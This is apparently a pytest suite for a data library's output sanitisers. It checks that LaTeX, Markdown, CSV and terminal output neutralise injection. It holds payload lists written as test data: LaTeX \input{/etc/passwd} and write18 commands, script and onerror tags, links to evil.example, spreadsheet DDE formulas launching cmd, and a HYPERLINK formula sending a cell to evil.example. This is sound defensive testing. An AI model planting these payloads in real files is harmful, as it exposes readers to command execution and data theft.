"""Attacks on who reads results: by labels, prompts, reasons and files that others made."""

import ast
import csv
import io
import logging
import re
import sys
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from tqdm import tqdm

from lanzdml.datasets.manifest import write_excluded
from lanzdml.errors import LanzdmlError, error_lines
from lanzdml.spreadsheet import guarded, plain, read_csv, to_csv
from lanzdml.tables.markup import Cell, Table, markdown_escape, markdown_note

sys.path.insert(0, str(Path(__file__).parents[2] / "workflow_scripts"))
from job import THREAD_VARIABLES, _Tee, run

LIBRARY = Path(__file__).parents[2] / "lanzdml"
BREAKS = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x85", "\u2028", "\u2029", "^^M", "^^0d"]


# LaTeX


@pytest.mark.parametrize("breaks", BREAKS, ids=ascii)
def test_no_line_of_latex_is_somebody_elses(breaks):
    attack = rf"a{breaks}\input{{/etc/passwd}}{breaks}\immediate\write18{{id}}%{breaks}\end{{x}}"
    table = Table(
        attack, [attack], [(attack,), ("b",)], [attack, "n"],
        [[Cell(attack, best=True), "1"], [attack, "2"]], [attack, attack], [attack],
    )  # fmt: skip
    lines = "\n".join(table.latex()).splitlines()
    assert lines == table.latex()
    ours = r"\\(tabular|begin|end|toprule|midrule|bottomrule|textbf|text\w+\{\}|[&%$#_{}\\])"
    for line in lines:
        if not line.startswith("%"):
            assert "\\" not in re.sub(ours, "", line)
            assert "^" not in line
            assert not re.search(r"(?<!\\)%", line)


# Markdown

TAGS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<http://evil.example>",
    "<!-- a", "<?php", "&lt;script&gt;", "&#60;script&#62;", "<\u200bscript>", "<a\nhref='x'>",
]  # fmt: skip
LINKS = [
    "[a](http://evil.example)", "![a](http://evil.example/x.png)", "[a[b]](http://evil.example)",
    "![a[b]](http://evil.example)", "[x]: http://evil.example", "[x][y]", "[^1]: a",
]  # fmt: skip


@pytest.mark.parametrize("attack", TAGS)
def test_no_reader_of_markdown_finds_a_tag(attack):
    for text in (markdown_escape(attack), markdown_note(attack)):
        # Neither those that know a backslash before it nor those that do not.
        assert not re.search(r"<(?! )|&(?!amp;|lt;)", text)


@pytest.mark.parametrize("attack", LINKS)
def test_no_reader_of_markdown_finds_a_link(attack):
    assert not re.search(r"(?<!\\)\][(:\[]", markdown_escape(attack))


HIDING = "\u202e\u202d\u2066\u2069\u200e\u200f\u061c\u200b\u2060\ufeff\xad\U000e0041"


def test_nothing_turns_or_hides_letters():
    table = Table("a", ["a"], [(f"re{HIDING}d",)], ["n"], [[f"{HIDING}x"]], [f"n{HIDING}"])
    for lines in (table.markdown(), table.latex()):
        assert not set(HIDING) & set("".join(lines))
        assert "red" in "".join(lines)
    joined = "نمی\u200cخواهم 👩\u200d🚀 क्\u200dष"
    assert markdown_escape(joined) == joined, "signs that letters of some scripts need"


# CSV

FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example?\"&A1)", "+1+cmd|'/c calc'!A1", "-2+3+cmd|' /C x'!A0",
    "@SUM(1+1)*cmd|'x'!A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1", "＝1+1", "＋1+a",
    "－a", "＠a", "a;=1+1;b", "a;=1+1", "a\n=1+1", "a\r\n@x", "a\t=1+1", '";=1+1', "'=1+1", "''",
    "-", "-1;=1+1", "a\r=1", "a; '=1", "-1\n=1",
]  # fmt: skip
HARMLESS = [
    "-0.12",
    "+1.2 ",
    "-1e-3",
    "a=1",
    "a-b",
    "1-2",
    "—",
    "rock, 'n' roll",
    "x@y.example",
    "",
]


def spreadsheet(text, separator, quotes):
    """The cells of a CSV as a spreadsheet has them that parts at a separator."""
    rows = (
        csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        if quotes
        else ([*line.split(separator)] for line in re.split("[\r\n]", text))
    )
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("attack", FORMULAS, ids=ascii)
def test_no_spreadsheet_finds_a_formula(attack, tmp_path):
    frame = pd.DataFrame({"image_id": ["a"], attack: [attack], "n": [-0.5]})
    text = to_csv(frame)
    number = re.compile(r"[-+]?[\d.]+([eE][-+]?\d+)?")
    for separator in ",;\t":
        for quotes in (True, False):
            for cell in spreadsheet(text, separator, quotes):
                # What is within quotes that are no quotes begins with one, so is text.
                begins = re.match("[=+@＝＋－＠-]", cell.strip())
                assert not begins or number.fullmatch(cell.strip())
    (tmp_path / "a.csv").write_text(text, newline="")
    pd.testing.assert_frame_equal(read_csv(tmp_path / "a.csv"), frame)
    column = pd.read_csv(tmp_path / "a.csv").iloc[:, 1]
    as_said = column.str.replace(r"(^|[;\t\r\n])(\s*)'", r"\1\2", regex=True)
    assert as_said.tolist() == [attack], "as the documentation says"


def test_texts_come_back_whatever_they_hold():
    rng = np.random.default_rng(0)
    signs = list("=+-@'＝; \t\r\na1.e,\"|\u00a0")
    for text in [*FORMULAS, *HARMLESS, *map("".join, rng.choice(signs, (3000, 6)))]:
        assert plain(guarded(text)) == text
    assert [guarded(text) for text in HARMLESS] == HARMLESS


def test_texts_without_end_are_guarded_in_no_time():
    for part in ("\t", ";", "1", "'", "=", " ", "\n "):
        text = "-" + part * 200_000 + "x"
        assert plain(guarded(text)) == text


def test_excluded_images_are_no_formulas(tmp_path):
    attack = "=cmd|'/c calc'!A1"
    frame = pd.DataFrame({"image_id": [attack], "path": ["@a.png"], "reason": ["-x"]})
    write_excluded(tmp_path / "excluded.csv", frame)
    assert pd.read_csv(tmp_path / "excluded.csv").iloc[0].tolist() == [
        f"'{attack}",
        "'@a.png",
        "'-x",
    ]
    pd.testing.assert_frame_equal(read_csv(tmp_path / "excluded.csv"), frame)


def test_all_csv_is_written_in_one_place():
    writers = {
        path.relative_to(LIBRARY).as_posix()
        for path in LIBRARY.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and node.attr == "to_csv"
    }
    assert writers == {"spreadsheet.py"}
    assert "csv.writer" not in "".join(path.read_text() for path in LIBRARY.rglob("*.py"))


# Terminal and logs

ESCAPES = [
    "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x9b2J", "\x1b[1A\x1b[2K", "abc\b\b\b", "\x1bc", "\x7f",
    "\u202eabc", "\x1b]8;;http://evil.example\x07a\x1b]8;;\x07", "\udcff", "\x00",
]  # fmt: skip


class Screen:
    """What a reader of a terminal sees: carriage returns write over a line."""

    def __init__(self):
        self.text = ""

    def write(self, text):
        text.encode("utf-8")
        self.text += text
        return len(text)

    def flush(self):
        pass

    def isatty(self):
        return True

    def lines(self):
        lines = []
        for line in self.text.split("\n"):
            shown = ""
            for part in line.split("\r"):
                shown = part + shown[len(part) :]
            lines.append(shown)
        return lines


@pytest.fixture
def tee():
    screen, log = Screen(), io.BytesIO()
    return _Tee(screen, log), screen, log


@pytest.mark.parametrize("attack", ESCAPES, ids=ascii)
def test_no_escape_sequence_reaches_a_terminal_or_a_log(attack, tee):
    tee, screen, log = tee
    print(f"image {attack}", file=tee)
    tee.write(attack)
    assert screen.text == log.getvalue().decode()
    assert re.fullmatch(r"[\x20-\x7e\n]*", screen.text)


@pytest.mark.parametrize("attack", ["a\rError: delete all", "a\r\rb", "a\r"], ids=ascii)
def test_a_name_does_not_write_over_its_line(attack, tee):
    tee, screen, _ = tee
    print("image", attack, "is", file=tee)
    assert screen.lines()[0].startswith("image a")


def test_progress_bars_work(tee):
    tee, screen, log = tee
    print("before", file=tee)
    for _ in tqdm(range(3), file=tee, mininterval=0, ncols=60, desc="Größe"):
        pass
    print("after\r\na\tb", file=tee)
    before, bar, after, tab, _ = screen.lines()
    assert (before, after, tab) == ("before", "after", "a\tb")
    assert bar.startswith("Größe: 100%|")
    assert log.getvalue().decode() == screen.text


@pytest.mark.parametrize("attack", [*ESCAPES, *BREAKS[:-2]], ids=ascii)
def test_an_error_is_one_line_of_letters(attack):
    error = LanzdmlError(f"no image a{attack}Error: delete all")
    assert len(error_lines(error).splitlines()) == 1
    assert error_lines(error).isprintable()


def test_what_is_logged_is_one_line(tmp_path, monkeypatch, capsys):
    def main(_):
        logging.getLogger("of another package").warning("read %s", "a\nError: delete\x1b[2J")

    monkeypatch.setattr(logging.getLogger(), "handlers", [])
    for variable in THREAD_VARIABLES:  # so that the test's own process gets them back
        monkeypatch.setenv(variable, "1")
    run(main, SimpleNamespace(log=[str(tmp_path / "job.log")], threads=1, output=[]))
    assert capsys.readouterr().err == "read a\\nError: delete\\x1b[2J\n"


def test_a_message_without_end_is_cut():
    assert len(str(LanzdmlError("a" * 10**6))) < 5000
